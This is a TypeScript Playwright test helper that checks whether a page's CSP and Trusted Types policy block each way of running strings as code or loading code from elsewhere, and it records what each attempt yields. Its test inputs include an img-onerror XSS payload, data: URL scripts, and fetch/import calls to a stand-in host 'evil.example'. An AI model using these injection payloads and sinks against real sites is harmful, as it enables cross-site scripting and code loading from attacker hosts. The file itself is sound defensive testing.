/**
 * Every way that a page, or a worker, has to make a document or a program of a string, or to have one from elsewhere, tried in
 * it. Each stands here as the text that runs there; what it must come to stands beside it.
 */
import type { Page, Worker } from "playwright-core";

type Way = { readonly text: string; readonly refused: "TypeError" | "EvalError" };

const byPolicy = (text: string): Way => ({ text, refused: "TypeError" });

/** In pages and workers alike. */
const everywhere: Readonly<Record<string, Way>> = {
  eval: { text: "(0, eval)(code)", refused: "EvalError" },
  Function: { text: "new Function(code)()", refused: "EvalError" },
  "setTimeout of text": byPolicy("setTimeout(code, 0)"),
  "worker of another host": byPolicy("new Worker(elsewhere)"),
  "worker of data": byPolicy("new Worker(data)"),
  "import of another host": byPolicy("await import(elsewhere)"),
  "import of data": byPolicy("await import(data)"),
  "fetch from another host": byPolicy("await fetch(elsewhere)"),
  "fetch from a plain one": byPolicy('await fetch("http://evil.example/")'),
  "another policy": byPolicy('trustedTypes.createPolicy("other", { createHTML: (text) => text })'),
  "a second default policy": byPolicy('trustedTypes.createPolicy("default", { createHTML: (text) => text })'),
};

/** Where there is a document. */
const onPages: Readonly<Record<string, Way>> = {
  ...everywhere,
  innerHTML: byPolicy("box().innerHTML = hostile"),
  outerHTML: byPolicy("box().outerHTML = hostile"),
  insertAdjacentHTML: byPolicy('box().insertAdjacentHTML("beforeend", hostile)'),
  setHTMLUnsafe: byPolicy("box().setHTMLUnsafe(hostile)"),
  "innerHTML in a shadow": byPolicy('box().attachShadow({ mode: "open" }).innerHTML = hostile'),
  "document.write": byPolicy("document.write(hostile)"),
  "document.writeln": byPolicy("document.writeln(hostile)"),
  createContextualFragment: byPolicy("document.createRange().createContextualFragment(hostile)"),
  parseFromString: byPolicy('new DOMParser().parseFromString(hostile, "text/html")'),
  "srcdoc of a frame": byPolicy('document.createElement("iframe").srcdoc = hostile'),
  "attribute srcdoc": byPolicy('document.createElement("iframe").setAttribute("srcdoc", hostile)'),
  "attribute onclick": byPolicy('box().setAttribute("onclick", code)'),
  "text of a script": byPolicy("script().text = code"),
  "textContent of a script": byPolicy("script().textContent = code"),
  "innerText of a script": byPolicy("script().innerText = code"),
  "src of a script": byPolicy("script().src = elsewhere"),
  "data as src of a script": byPolicy("script().src = data"),
};

const program = (ways: Readonly<Record<string, Way>>): string => `(async () => {
  globalThis.taken = [];
  const code = "globalThis.taken?.push('code')";
  const hostile = \`<img src="x" onerror="globalThis.taken.push('html')"><b>bold</b>\`;
  const data = "data:text/javascript," + code;
  const elsewhere = "https://evil.example/x.js";
  const box = () => document.body.appendChild(document.createElement("div"));
  const script = () => document.body.appendChild(document.createElement("script"));
  const pause = (ms) => new Promise((go) => setTimeout(go, ms));
  const came = {};
  await pause(0); // the tools that bring this here lend it no rights of theirs beyond this line
  for (const [name, act] of Object.entries({
    ${Object.entries(ways)
      .map(([name, { text }]) => `${JSON.stringify(name)}: async () => { ${text}; }`)
      .join(",\n    ")}
  }))
    came[name] = await act().then(() => "let through", (error) => error.name);
  await pause(200);
  return { ...came, "what ran": globalThis.taken.join() || "nothing", policy: trustedTypes.defaultPolicy?.name };
})()`;

type Came = Readonly<Record<string, string>>;
const wanted = (ways: Readonly<Record<string, Way>>): Came => ({
  ...Object.fromEntries(Object.entries(ways).map(([name, { refused }]) => [name, refused])),
  ...{ "what ran": "nothing", policy: "default" },
});

/** What each came to on this page, and what it should. */
export const triedOn = async (page: Page): Promise<{ readonly came: Came; readonly wanted: Came }> => ({
  came: await page.evaluate(program(onPages)),
  wanted: wanted(onPages),
});

export const triedIn = async (worker: Worker): Promise<{ readonly came: Came; readonly wanted: Came }> => ({
  came: await worker.evaluate(program(everywhere)),
  wanted: wanted(everywhere),
});
